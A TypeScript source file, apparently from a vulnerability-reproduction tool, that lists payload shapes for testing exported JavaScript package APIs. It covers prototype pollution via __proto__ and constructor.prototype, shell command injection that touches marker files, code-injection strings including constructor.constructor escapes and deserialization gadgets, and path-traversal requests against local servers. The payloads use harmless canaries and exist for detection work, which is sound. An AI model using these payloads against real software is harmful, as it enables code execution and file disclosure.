// SPDX-License-Identifier: Apache-2.0
import type { Shows } from '../../../domain/reproducer.ts';
import type { Weakness } from '../../../domain/weakness.ts';

/** How the exported API is called to see one weakness. All of it is text, so that a hit is replayed as it stands. */
export interface AttackTable {
  /** Statements in front of every call. */
  readonly prelude: string;
  /** The same for a replay, where the call is to do one thing only: the first with which it shows is kept. */
  readonly replays: readonly string[];
  /** Expressions; `CALLEE` stands for what is called. */
  readonly shapes: readonly string[];
  /** Servers are asked, also those that exist once a file is loaded. */
  readonly asksServers: boolean;
  /** How one sees the shape of this number. */
  shows(index: number): Shows;
}

/** `#` stands for the number of the shape: each leaves a sign of its own. */
export function tableOf(weakness: Weakness): AttackTable | undefined {
  switch (weakness) {
    case 'CWE-1321':
      return table('', calls(POLLUTING), () => ({ kind: 'polluted' }));
    case 'CWE-78':
      return table('', calls(COMMANDS), (index) => ({ kind: 'file', path: `skymend-marker${index}` }));
    case 'CWE-94':
      return table('', calls(CODE), () => ({ kind: 'sink', sink: 'code' }));
    case 'CWE-22':
      return served();
    default:
      return undefined;
  }
}

function table(prelude: string, shapes: readonly string[], shows: AttackTable['shows']): AttackTable {
  const numbered = shapes.map((shape, index) => shape.replaceAll('#', String(index)));
  return { prelude, replays: [prelude], shapes: numbered, asksServers: false, shows };
}

/** All ways are tried at once; a reproducer makes one request, so that putting another in its place changes everything. */
function served(): AttackTable {
  const made = table(serving(WAYS), SERVED, () => ({ kind: 'leak', text: BAIT }));
  return { ...made, asksServers: true, replays: WAYS.map((way) => serving([way])) };
}

export function calls(argumentLists: readonly string[]): readonly string[] {
  return argumentLists.map((list) => `CALLEE(${list})`);
}

const OWN = `JSON.parse('{"__proto__":{"skymend#":1}}')`;
const BY_CONSTRUCTOR = `JSON.parse('{"constructor":{"prototype":{"skymend#":1}}}')`;

const POLLUTING = [
  `{}, ${OWN}`,
  `{a:{}}, JSON.parse('{"a":{"__proto__":{"skymend#":1}}}')`,
  `{}, ${BY_CONSTRUCTOR}`,
  `true, {}, ${OWN}`,
  `{}, true, ${OWN}`,
  OWN,
  `${OWN}, {}`,
  `{}, {}, ${OWN}`,
  `[{}, ${OWN}]`,
  `[${OWN}, {}]`,
  `{}, "__proto__.skymend#", 1`,
  `{}, ["__proto__","skymend#"], 1`,
  `{}, [["__proto__"],"skymend#"], 1`,
  `{}, "constructor.prototype.skymend#", 1`,
  `{}, ["constructor","prototype","skymend#"], 1`,
  `{}, "/__proto__/skymend#", 1`,
  `{}, "/constructor/prototype/skymend#", 1`,
  `{}, "__proto__[skymend#]", 1`,
  `{}, "__proto__:skymend#", 1`,
  `"__proto__.skymend#", 1, {}`,
  `"__proto__.skymend#", {}, 1`,
  `["__proto__","skymend#"], 1, {}`,
  `["__proto__","skymend#"], {}, 1`,
  `{}, 1, "__proto__.skymend#"`,
  `{}, "__proto__", "skymend#", 1`,
  `"__proto__", "skymend#", 1`,
  `"__proto__.skymend#", 1`,
  `"__proto__.skymend#=1"`,
  `"__proto__[skymend#]=1"`,
  `"constructor.prototype.skymend#=1"`,
  `"[__proto__]\\nskymend#=1"`,
  `"[__proto__]\\nskymend# = 1\\n"`,
  `"__proto__:\\n  skymend#: 1\\n"`,
  `'{"__proto__":{"skymend#":1}}'`,
  `["--__proto__.skymend#", "1"]`,
  `["--__proto__.skymend#=1"]`,
  `["--constructor.prototype.skymend#=1"]`,
  `["--foo.__proto__.skymend#=1"]`,
  `{"__proto__.skymend#":1}`,
  `{"constructor.prototype.skymend#":1}`,
  `{}, {"__proto__.skymend#":1}`,
  `{"__proto__[skymend#]":1}`,
  `{"/__proto__/skymend#":1}`,
  `[["__proto__.skymend#", 1]]`,
  `[{path:["__proto__","skymend#"], value:1}]`,
  `{}, [{op:"add", path:"/__proto__/skymend#", value:1}]`,
  `{}, [{op:"add", path:"/constructor/prototype/skymend#", value:1}]`,
  `{}, {op:"add", path:"/__proto__/skymend#", value:1}`,
  `{}, {path:["__proto__","skymend#"], value:1}`,
  `{}, "__proto__.skymend#", () => 1`,
];

const INJECTED = [
  '"x; touch skymend-marker#; x"',
  '"$(touch skymend-marker#)"',
  `"x'; touch skymend-marker#; '"`,
  `'x"; touch skymend-marker#; "'`,
];
/** What options that end up in a command are called everywhere. */
const OPTION_NAMES = JSON.stringify(
  'file path name host src dst dest input output cwd dir url branch command args options pid port'.split(' '),
);
const FOLLOWED = '() => {}';

const COMMANDS = [
  ...INJECTED.flatMap((value) => [
    value,
    `${value}, ${FOLLOWED}`,
    `[${value}]`,
    `[${value}], ${FOLLOWED}`,
    `"x", ${value}`,
    `"x", ${value}, ${FOLLOWED}`,
    `${value}, {}, ${FOLLOWED}`,
  ]),
  ...INJECTED.slice(0, 2).flatMap((value) => {
    const options = `Object.fromEntries(${OPTION_NAMES}.map((name) => [name, ${value}]))`;
    return [
      options,
      `${options}, ${FOLLOWED}`,
      `"x", ${options}, ${FOLLOWED}`,
      `"x", [${value}], ${FOLLOWED}`,
      `"x", "x", ${value}, ${FOLLOWED}`,
      `${value}, "x", "x", ${FOLLOWED}`,
      `1, ${value}, ${FOLLOWED}`,
    ];
  }),
];

const CODE = [
  `"globalThis.skymendCanary=#"`,
  `"globalThis.skymendCanary=#", {}`,
  `"(globalThis.skymendCanary=#)", {}, {}`,
  `{}, "globalThis.skymendCanary=#"`,
  '"${globalThis.skymendCanary=#}"',
  '"${globalThis.skymendCanary=#}", {}',
  '"{{globalThis.skymendCanary=#}}", {}',
  '"<%= globalThis.skymendCanary=# %>", {}',
  `"constructor.constructor(\\"globalThis.skymendCanary=#\\")()"`,
  `"this.constructor.constructor(\\"globalThis.skymendCanary=#\\")()"`,
  `"this.constructor.constructor(\\"return this\\")().skymendCanary=#"`,
  `"(function(){}).constructor(\\"globalThis.skymendCanary=#\\")()"`,
  `"({a:globalThis.skymendCanary=#})"`,
  `"{\\"a\\":globalThis.skymendCanary=#}"`,
  `"{\\"a\\":\\"_$$ND_FUNC$$_function(){globalThis.skymendCanary=#}()\\"}"`,
  `"a: !!js/function 'function(){}'\\ntoString: !!js/function 'function(){globalThis.skymendCanary=#}'"`,
  `"{ toString: !<tag:yaml.org,2002:js/function> 'function (){globalThis.skymendCanary=#}' }"`,
  `"a\\"];globalThis.skymendCanary=#;//"`,
  `"a');globalThis.skymendCanary=#;//"`,
  `"');globalThis.skymendCanary=#;('"`,
  `["globalThis.skymendCanary=#"]`,
  `() => {}, {name:"x(){};globalThis.skymendCanary=#;//"}`,
  `Object.defineProperty(function () {}, "name", {value: "x(){}})(),globalThis.skymendCanary=#,(function(){//"})`,
];

const BAIT = 'skymend-bait-content-7f3a';

const WAYS = ['../', '%2e%2e/', '..%2f'].map((up) => `/${up.repeat(14)}tmp/skymend-bait`);

/** A file where no server should read, and requests for it. */
function serving(ways: readonly string[]): string {
  return `
const http = require("http"), fs = require("fs"), own = 8123;
fs.writeFileSync("/tmp/skymend-bait", "${BAIT}");
const ways = ${JSON.stringify(ways)};
const ask = (port, path) => new Promise((done) => {
  const end = setTimeout(() => done(""), 800);
  const finish = (text) => { clearTimeout(end); done(text); };
  http.get({ host: "127.0.0.1", port, path, agent: false }, (answer) => {
    let text = "";
    answer.on("data", (part) => { text += part; });
    answer.on("end", () => finish(text));
    answer.on("error", () => finish(text));
  }).on("error", () => finish(""));
});
const report = (text, number) => {
  if (!text.includes("${BAIT}")) return false;
  if (globalThis.skymendLeak) globalThis.skymendLeak(number); else console.log(text);
  return true;
};
const listening = () => ["/proc/net/tcp", "/proc/net/tcp6"].flatMap((file) => fs.readFileSync(file, "utf8").split("\\n").slice(1)
  .map((line) => line.trim().split(/\\s+/)).filter((fields) => fields[3] === "0A").map((fields) => parseInt(fields[1].split(":").pop(), 16)));
const serve = async (make, number) => {
  const ports = [];
  const made = await make();
  const servers = [];
  if (typeof made === "function") {
    const server = http.createServer((req, res) => made(req, res, () => res.end()));
    servers.push(server);
    await new Promise((ready) => server.listen(0, "127.0.0.1", ready));
    ports.unshift(server.address().port);
  } else if (made && typeof made.listen === "function" && !made.listening) {
    made.listen(own);
    await new Promise((ready) => setTimeout(ready, 200));
  } else {
    await new Promise((ready) => setTimeout(ready, 100));
  }
  // Whatever listens here was started by the call, or when the package was loaded.
  ports.push(...listening());
  for (const port of new Set(ports)) for (const path of ways) if (report(await ask(port, path), number)) { servers.forEach((server) => server.close()); return; }
  servers.forEach((server) => server.close());
};`;
}

const ROOT = 'process.cwd()';

const SERVED = [
  'serve(() => CALLEE, #)',
  `serve(() => CALLEE(${ROOT}), #)`,
  'serve(() => CALLEE("."), #)',
  `serve(() => CALLEE({root:${ROOT},dir:${ROOT},path:${ROOT},base:${ROOT},directory:${ROOT},port:own}), #)`,
  `serve(() => CALLEE(${ROOT}, {}), #)`,
  `serve(() => CALLEE("/", ${ROOT}), #)`,
  'serve(() => CALLEE(own), #)',
  `serve(() => CALLEE(own, ${ROOT}), #)`,
  `serve(() => CALLEE(${ROOT}, own), #)`,
  'serve(() => CALLEE({port:own}), #)',
  'serve(() => CALLEE(), #)',
];
